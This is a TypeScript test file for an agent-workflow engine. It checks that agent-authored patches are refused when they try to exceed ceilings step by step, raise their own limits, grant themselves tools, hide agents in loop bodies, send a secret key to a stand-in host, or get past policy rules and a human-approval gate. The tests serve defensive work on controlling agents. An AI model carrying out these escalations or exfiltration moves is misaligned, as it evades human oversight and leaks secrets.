/** Ceilings, powers of agents and policy: also when they are approached in small steps. */
import type { PatchOperation } from '@aob/ir';
import { describe, expect, it } from 'vitest';
import { AGENT, type Attack, itRepels, OPTIMIZER, PERSON, patched } from '../testing/attack.ts';
import { given, outcomeOf } from '../testing/given.ts';
import {
  addEdge,
  addNode,
  behind,
  body,
  copy,
  type Element,
  fn,
  link,
  loop,
  map,
  post,
  put,
  replace,
  set,
} from '../testing/operations.ts';

const agent = (id: string, config: Element = {}): Element => ({
  id,
  type: 'agent',
  config: { provider: 'script', script: [{ say: 'hello' }], ...config },
});
const spawns = (count: number, from = 'start', name = 'helper'): PatchOperation[] =>
  Array.from({ length: count }, (_, i) => behind(from, agent(`${name}${i}`))).flat();

const LINE = { nodes: [fn('start'), fn('next')], edges: [link('start', 'next')], outputs: {} };
const on =
  (document: Element = {}) =>
  () =>
    given({ ...LINE, ...document });

/** Four of five agents are there; each came with a patch of its own. */
const nearlyFull = () => {
  const run = given(LINE);
  for (const i of [0, 1, 2, 3]) run.patch(spawns(1, 'start', `a${i}`), AGENT);
  return run;
};

const nested = (depth: number): Element[string] =>
  Array.from({ length: depth }).reduce<Element[string]>((inner) => ({ in: inner }), 1);

const shape = (
  name: string,
  code: string,
  operations: Parameters<typeof patched>[0],
  author = AGENT,
): Attack => ({
  name,
  code,
  on: on(),
  attempt: patched(operations, author),
});

describe('ceilings', () => {
  itRepels([
    shape('an agent adds six agents at once', 'limits.agents_per_patch', spawns(6)),
    {
      name: 'an agent adds the sixth agent with a patch of its own',
      code: 'limits.agents',
      on: nearlyFull,
      attempt: patched(spawns(2)),
    },
    {
      name: 'an agent adds agents in the body of a map',
      code: 'limits.agents',
      on: nearlyFull,
      attempt: patched(behind('start', map('each', body([agent('x'), agent('y')], [link('x', 'y')])))),
    },
    {
      name: 'an agent retypes steps into agents',
      code: 'limits.agents',
      on: nearlyFull,
      attempt: patched([
        replace('/nodes/{next}', agent('next')),
        ...behind('start', fn('more')),
        replace('/nodes/{more}', agent('more')),
      ]),
    },
    {
      name: 'an agent copies an agent instead of adding one',
      code: 'limits.agents_per_patch',
      on: on({ limits: { agents_per_patch: 1, agents: 20 } }),
      attempt: patched([
        ...spawns(1),
        ...[1, 2].flatMap((i) => [
          addNode(fn(`copy${i}`)),
          addEdge('start', `copy${i}`),
          put(`/nodes/{copy${i}}/type`, 'agent'),
          copy('/nodes/{helper0}/config', `/nodes/{copy${i}}/config`),
        ]),
      ]),
    },
    {
      name: 'an agent adds nodes, patch by patch, until there are too many',
      code: 'limits.nodes',
      on: () => {
        const run = given({ ...LINE, limits: { nodes: 4 } });
        run.patch(behind('start', fn('third')), AGENT);
        run.patch(behind('start', fn('fourth')), AGENT);
        return run;
      },
      attempt: patched(behind('start', fn('fifth'))),
    },
    {
      name: 'an agent patches once more than the run may be',
      code: 'limits.patches',
      on: () => {
        const run = given({ ...LINE, limits: { patches: 1 } });
        run.patch(behind('start', fn('one')), AGENT);
        return run;
      },
      attempt: patched(behind('start', fn('two'))),
    },
    {
      name: 'an agent makes room for more patches by taking its own back',
      code: 'limits.patches',
      on: () => {
        const run = given({ ...LINE, limits: { patches: 1 } });
        run.patch(behind('start', fn('one')), AGENT, 'p1');
        run.send({ type: 'withdraw_patch', id: 'back', patchId: 'p1', reason: 'room', author: AGENT });
        return run;
      },
      attempt: patched(behind('start', fn('two'))),
    },
    shape('an agent raises the ceiling itself', 'patch.reach', [put('/limits', { agents: 100 })]),
    shape(
      'an agent sends two hundred and one operations',
      'patch.too_large',
      Array.from({ length: 201 }, () => set('next', '/label', 'x')),
    ),
    shape('an agent sends a book', 'patch.too_large', [
      set('next', '/inputs', { text: 'x'.repeat(300_000) }),
    ]),
    shape('an agent doubles a copy of a copy thirty times', 'patch.too_large', [
      set('next', '/inputs', { x: 'payload' }),
      ...Array.from({ length: 30 }, (_, i) => copy('/nodes/{next}/inputs', `/nodes/{next}/inputs/k${i}`)),
    ]),
    shape('an agent nests a value seventy deep', 'limits.depth', [
      set('next', '/inputs', nested(70) ?? null),
    ]),
    shape('an agent nests a value six hundred deep, more than anybody walks down', 'patch.too_large', [
      set('next', '/inputs', nested(600) ?? null),
    ]),
    shape('an agent writes an expression that would take an hour', 'expression.cost', [
      ...behind('start', {
        id: 'big',
        type: 'transform',
        config: {
          expression: '[1,2,3].map(a, [1,2,3].map(b, [1,2,3].map(c, a + b + c)))',
        },
      }),
    ]),
    shape('an agent maps over a body that loops, a million times in all', 'field.out_of_range', [
      ...behind('start', loop('rounds', body([fn('step')]), { max_iterations: 1_000_000 })),
    ]),
    shape('an agent gives no reason it could be held to', 'patch.empty', [], AGENT),
  ]);
});

describe('powers', () => {
  itRepels([
    {
      name: 'an agent gives itself a tool',
      rule: 'R31',
      code: 'review.agent_power',
      on: () => given({ nodes: [fn('start'), agent('plan')], edges: [link('start', 'plan')], outputs: {} }),
      attempt: patched([set('plan', '/config/tools', ['patch_workflow'])]),
    },
    {
      name: 'the optimizer adds an agent with a tool that none had',
      rule: 'R31',
      code: 'review.agent_power',
      on: on(),
      attempt: patched(behind('start', agent('plan', { tools: ['patch_workflow'] })), OPTIMIZER),
    },
    {
      name: 'an agent hides the one with the tool in a body',
      rule: 'R31',
      code: 'review.agent_power',
      on: on(),
      attempt: patched(behind('start', map('each', body([agent('plan', { tools: ['patch_workflow'] })])))),
    },
    {
      name: 'an agent passes a tool from one agent on to another',
      rule: 'R31',
      code: 'review.agent_power',
      on: () =>
        given({
          nodes: [fn('start'), agent('plan', { tools: ['patch_workflow'] }), agent('write')],
          edges: [link('start', 'plan'), link('plan', 'write')],
          outputs: {},
        }),
      attempt: patched([set('write', '/config/tools', ['patch_workflow'])]),
    },
    shape('an agent reads a secret', 'not_available', [
      ...behind(
        'start',
        post('call', 'https://x.example/', {
          config: { url: 'https://x.example/', headers: { key: '${secrets.KEY}' } },
        }),
      ),
    ]),
    {
      name: 'an agent does what the policy refuses, in a body where a rule might not look',
      code: 'policy.refused',
      on: on({
        policy: { rules: [{ when: 'change.nodes.added.exists(n, n.type == "notify")', then: 'refuse' }] },
      }),
      attempt: patched(
        behind(
          'start',
          map('each', body([{ id: 'say', type: 'notify', config: { channel: 'log', body: 'x' } }])),
        ),
      ),
    },
    {
      name: 'an agent counts on a rule that lets all through to lift one that refuses',
      code: 'policy.refused',
      on: on({
        policy: {
          rules: [
            { when: 'true', then: 'auto' },
            { when: 'actor.kind == "agent"', then: 'refuse' },
            { when: 'true', then: 'auto' },
          ],
        },
      }),
      attempt: patched(behind('start', fn('x'))),
    },
    {
      name: 'an agent sends what a rule cannot judge',
      code: 'policy.error',
      on: on({ policy: { rules: [{ when: 'change.nodes.added[3].id == "x"', then: 'auto' }] } }),
      attempt: patched(behind('start', fn('x'))),
    },
  ]);

  it('R31: a rule that says auto lifts no rule of the gate', () => {
    const run = given({
      nodes: [
        fn('start'),
        { id: 'ask', type: 'hitl', config: { message: '?' } },
        post('pay', 'https://b.example/'),
      ],
      edges: [link('start', 'ask'), link('ask', 'pay')],
      policy: { rules: [{ when: 'true', then: 'auto' }] },
      outputs: {},
    });
    expect(outcomeOf(run.patch([addEdge('start', 'pay')], PERSON))).toContain('gate.bypassed');
    expect(outcomeOf(run.patch([set('ask', '/config/message', 'Lunch?')], AGENT))).toEqual([
      'pending_review',
    ]);
  });
});
